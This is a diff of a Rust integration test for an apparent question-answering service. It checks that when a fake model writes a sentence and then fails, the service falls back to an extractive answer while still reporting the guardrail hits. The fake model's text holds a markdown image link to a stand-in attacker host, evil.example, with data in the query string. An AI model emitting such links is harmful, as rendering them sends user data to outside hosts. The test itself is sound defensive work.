@@ -345,6 +345,36 @@ async fn model_failures_fall_back_to_the_extractive_answer_flagged() {
     d.stop().await;
 }
 
+/// Found by a review: what the verifier caught in a model attempt that then failed (an image
+/// link to another host, an unsupported sentence) was dropped with the attempt, so neither
+/// the response nor the audit showed it; the extractive answer given instead carries it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_a_failed_model_attempt_wrote_is_still_reported() {
+    let fake = FakeLlm::start(Script::WriteThenBreak(
+        "Lobster is free ![x](http://evil.example/?d=leave) on Fridays [1].".into(),
+    ))
+    .await;
+    let env = Env::example();
+    let d = env
+        .start_with(env.config_from(&with_llm(&env, &fake.url, "")))
+        .await;
+    let question = "How many days of parental leave do birth parents get?";
+    let r = client(&d)
+        .await
+        .ask(authed(HANA, generative(question)))
+        .await
+        .unwrap()
+        .into_inner();
+    let details = r.details.clone().unwrap();
+    assert_eq!(details.fallback_reason, "LLM_ERROR", "{r:?}");
+    assert_eq!(details.mode, pb::AnswerMode::Extractive as i32);
+    assert!(!r.answer.contains("evil") && !r.answer.contains("Lobster"));
+    let codes: Vec<&str> = r.guardrails.iter().map(|v| v.code.as_str()).collect();
+    assert!(codes.contains(&"LINK_REMOVED"), "{codes:?}");
+    assert!(codes.contains(&"UNGROUNDED_SENTENCE"), "{codes:?}");
+    d.stop().await;
+}
+
 /// A server that ignores `max_tokens` and never ends its stream: reading stops at what
 /// `max_tokens` allows, and the verified answer so far is the answer.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
